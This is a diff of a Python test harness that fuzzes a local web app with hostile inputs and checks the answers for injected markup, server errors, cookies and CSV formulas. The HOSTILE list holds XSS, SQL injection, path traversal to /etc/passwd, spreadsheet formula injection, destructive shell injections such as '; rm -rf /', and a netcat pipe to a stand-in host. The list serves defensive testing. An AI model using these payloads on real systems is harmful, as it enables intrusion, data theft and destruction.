@@ -19,7 +19,9 @@ import sys
 import tempfile
 import threading
 import time
+from contextlib import ExitStack
 from dataclasses import dataclass, field
+from html.parser import HTMLParser
 from pathlib import Path
 
 import httpx
@@ -39,18 +41,36 @@ from qgt.web.settings import Settings
 from qgt.web.store import Store
 
 HOSTILE = (
-    *("<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "</title><svg onload=x>"),
-    *("<!--", "]]>", "&lt;b&gt;", "<style>*{display:none}</style>", "javascript:alert(1)", "<iframe src=//evil.example>"),
-    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "\t=1", "'=1"),
-    *("{{ 7*7 }}", "{% for x in y %}", "${7*7}", "#{7*7}", "%s%s%n", "%00", "{0.__class__}"),
-    *("'; DROP TABLE runs;--", '" OR 1=1 --', "1; DELETE FROM trail", "' UNION SELECT value FROM keys --", "\\'; --"),
-    *("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\CON", "file:///etc/passwd", "a/../../b", "~root"),
-    *("; rm -rf /", "$(reboot)", "`id`", "| nc evil.example 1", "&& true", "\r\nSet-Cookie: a=b", "a\r\n\r\nb"),
-    *("\x00", "\x1b[2J", "\u202egnp.exe", "\u200b", "\ufeff", "\ud7ff", "a" * 5000, "\U0001f4a9", "e\u0301", "ﷺ"),
-    *("NaN", "1e999", "-0", "0x10", "1_000", "１"),
-)  # fmt: skip
-ACTIVE = re.compile(r"<script(?! src=\"/static/counts\.js\")|<img|<iframe|<svg onload|onerror=|<style>\*|src=//", re.I)
+    *("<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>"),
+    *("</title><svg onload=x>", "<!--", "]]>", "&lt;b&gt;", "<style>*{display:none}</style>", "javascript:alert(1)"),
+    *("<iframe src=//evil.example>", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "'=1"),
+    *('=HYPERLINK("http://evil.example")', "{{ 7*7 }}", "{% for x in y %}", "${7*7}", "#{7*7}", "%s%s%n", "%00"),
+    *("{0.__class__}", "'; DROP TABLE runs;--", '" OR 1=1 --', "1; DELETE FROM trail", "\\'; --"),
+    *("' UNION SELECT value FROM keys --", "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\CON"),
+    *("file:///etc/passwd", "a/../../b", "~root", "; rm -rf /", "$(reboot)", "`id`", "| nc evil.example 1", "&& true"),
+    *("\r\nSet-Cookie: a=b", "a\r\n\r\nb", "\x00", "\x1b[2J", "\u202egnp.exe", "\u200b", "\ufeff", "a" * 5000),
+    *("\U0001f4a9", "e\u0301", "\ufdfa", "NaN", "1e999", "-0", "0x10", "1_000", "\uff11"),
+)
 FORMULA = re.compile(r"[=+@\t\r]|-(?!\d)")
+FORBIDDEN = {"img", "iframe", "object", "embed", "base", "frame", "math"}
+
+
+class Markup(HTMLParser):
+    """The elements of a page that could do something, as a browser would find them."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        """Look at one element."""
+        given = dict(attributes)
+        own = tag == "script" and given.get("src") == "/static/counts.js"
+        if tag in FORBIDDEN or (tag == "script" and not own):
+            self.found.append(tag)
+        self.found += [name for name in given if name.startswith("on") or name == "style"]
+        links = [given.get(name) or "" for name in ("href", "src", "action")]
+        self.found += [link for link in links if link.split(":")[0].lower() in ("javascript", "file", "http", "https")]
 
 
 @dataclass
@@ -81,6 +101,7 @@ class Server:
         return int(re.search(r"VmRSS:\s+(\d+)", text)[1]) / 1024
 
     def stop(self, how: signal.Signals = signal.SIGINT) -> None:
+        """End it, and wait until it has ended."""
         self.process.send_signal(how)
         self.process.wait(timeout=60)
 
@@ -95,11 +116,13 @@ class Tally:
     lock: threading.Lock = field(default_factory=threading.Lock)
 
     def add(self, kind: str, took: float, status: int) -> None:
+        """Count a request."""
         with self.lock:
             self.seconds.setdefault(kind, []).append(took)
             self.statuses[status] = self.statuses.get(status, 0) + 1
 
     def fault(self, words: str) -> None:
+        """Note what should not have happened."""
         with self.lock:
             self.faults.append(words)
 
@@ -275,12 +298,14 @@ def hostile(number: int) -> dict[str, object]:
     """Names and cells that would run, escape or break something, in every place where people write."""
     faults: list[str] = []
     tried = HOSTILE[:number]
-    with tempfile.TemporaryDirectory() as name, in_background(Settings(Path(name), port=0, calibrate=0.5)) as house:
-        with httpx.Client(base_url=house.settings.address, timeout=60) as client:
-            for place, text in enumerate(tried):
-                _attack(client, house, text, place, faults)
-            if len(house.store.runs()) < 2 or client.get("/").status_code != 200:
-                faults.append("the store was harmed")
+    with ExitStack() as stack:
+        folder = Path(stack.enter_context(tempfile.TemporaryDirectory()))
+        house = stack.enter_context(in_background(Settings(folder, port=0, calibrate=0.5)))
+        client = stack.enter_context(httpx.Client(base_url=house.settings.address, timeout=60))
+        for place, text in enumerate(tried):
+            _attack(client, house, text, place, faults)
+        if len(house.store.runs()) < len(tried) or client.get("/").status_code != 200:
+            faults.append("the store was harmed")
     return {"tried": len(tried), "through": len(faults), "faults": faults[:20]}
 
 
@@ -314,8 +339,10 @@ def _attack(client: httpx.Client, house: House, text: str, place: int, faults: l
     for number, answer in enumerate(answers):
         if answer.status_code >= 500:
             faults.append(f"{place}: answer {number} is {answer.status_code}")
-        if "html" in answer.headers.get("content-type", "") and ACTIVE.search(answer.text):
-            faults.append(f"{place}: answer {number} holds markup of the client's")
+        if "html" in answer.headers.get("content-type", ""):
+            page = Markup()
+            page.feed(answer.text)
+            faults += [f"{place}: answer {number} holds {one!r}" for one in page.found]
         if "set-cookie" in answer.headers:
             faults.append(f"{place}: answer {number} sets a cookie")
         if answer.headers.get("content-type", "").startswith("text/csv"):
